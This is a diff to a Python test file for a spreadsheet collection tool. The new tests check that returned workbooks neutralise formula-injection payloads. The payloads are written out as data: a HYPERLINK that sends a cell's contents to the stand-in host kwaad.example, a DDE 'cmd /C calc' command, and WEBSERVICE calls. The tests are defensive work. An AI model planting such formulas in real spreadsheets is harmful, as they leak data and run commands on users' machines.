@@ -8,10 +8,15 @@ from typing import Any
 
 import openpyxl
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from openpyxl.comments import Comment
 from openpyxl.styles import Font, PatternFill
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
 
 from evalkit.collect.checks import check_delivery
+from evalkit.collect.harmless import only_counts
 from evalkit.collect.marking import mark, meta_of
 from evalkit.collect.tables import read_table
 from evalkit.collect.workbook_format import FIRST_ROW, HEADER_ROW
@@ -197,6 +202,73 @@ def test_formulas_in_findings_stay_text(sent: Path) -> None:
         BytesIO(mark(sent, [finding("intake.not_a_number", place, value="=1+1")], "nl"))
     )
     assert not [c for row in book.worksheets[0].iter_rows() for c in row if c.data_type == "f"]
+
+
+DOES_MORE = {
+    '=HYPERLINK("http://kwaad.example/?x="&A1,"klik")': "klik",
+    "=cmd|' /C calc'!A0": None,
+    '=WEBSERVICE("http://kwaad.example")': 7,
+    "='C:\\map\\[ander.xlsx]Blad'!A1": 3,
+    '=_xlfn.STDEV.S(A1:A3)&HYPERLINK("#")': "x",
+    '=\'a"b\'!A1&HYPERLINK("http://kwaad.example")': "y",
+}
+
+
+def test_formulas_that_do_more_than_count_do_not_go_back(sent: Path, design: Design) -> None:
+    book = openpyxl.load_workbook(sent)
+    own = book["Notities"]
+    for row, formula in enumerate(DOES_MORE, start=1):
+        own.cell(row, 1, formula)
+        own.cell(row, 2, "=SUM(C1:C3)")
+    own["D1"].hyperlink = "http://kwaad.example"
+    own["D1"] = "klik hier"
+    rule = DataValidation("list", formula1='=HYPERLINK("http://kwaad.example")')
+    rule.add("E1")
+    own.add_data_validation(rule)
+    book.defined_names["Auto"] = DefinedName("Auto", attr_text="cmd|' /C calc'!A0")
+    book.save(sent)
+    counts = sum(c.data_type == "f" for row in book["Start"].iter_rows() for c in row)
+    back, _ = marked(sent, design)
+    assert sum(c.data_type == "f" for row in back["Start"].iter_rows() for c in row) == counts > 0
+    own = back["Notities"]
+    for row, formula in enumerate(DOES_MORE, start=1):
+        cell = own.cell(row, 1)
+        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", formula, True)
+        assert own.cell(row, 2).value == "=SUM(C1:C3)"
+    assert own["D1"].hyperlink is None
+    assert own["D1"].value == "klik hier"
+    assert not own.data_validations.dataValidation
+    assert len(back[PUPILS].data_validations.dataValidation) == len(
+        openpyxl.load_workbook(sent)[PUPILS].data_validations.dataValidation
+    )
+    assert "Auto" not in back.defined_names
+
+
+def test_what_a_formula_had_counted_stays(sent: Path, design: Design) -> None:
+    import xlsxwriter
+
+    book = xlsxwriter.Workbook(sent, {"in_memory": True})
+    sheet = book.add_worksheet("Blad")
+    for row, (formula, value) in enumerate(DOES_MORE.items()):
+        sheet.write_formula(row, 0, formula, None, value if value is not None else "")
+    sheet.write_array_formula("B1:B1", '{=HYPERLINK("http://kwaad.example")}', None, 5)
+    book.close()
+    back = openpyxl.load_workbook(BytesIO(mark(sent, [], "nl")))["Blad"]
+    values = [back.cell(row, 1).value for row in range(1, len(DOES_MORE) + 1)]
+    assert not any(c.data_type == "f" for row in back.iter_rows() for c in row)
+    assert values[0] == "klik"
+    assert values[2:4] == [7, 3]
+    assert back["B1"].value == 5
+
+
+@given(
+    inside=st.text(st.characters(exclude_characters="\"'", exclude_categories=["Cs"]), max_size=12),
+    start=st.sampled_from(["", "SUM(A1)&", '"x"&', "'a\"b'!A1&", "'it''s'!A1&"]),
+)
+def test_no_call_hides_in_a_formula(inside: str, start: str) -> None:
+    """Whatever stands before it as long as quotes are closed."""
+    assert not only_counts(f'={start}{inside}&HYPERLINK("x")')
+    assert not only_counts(f"={start}{inside}&cmd|' /C calc'!A0")
 
 
 def test_what_cannot_be_marked_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
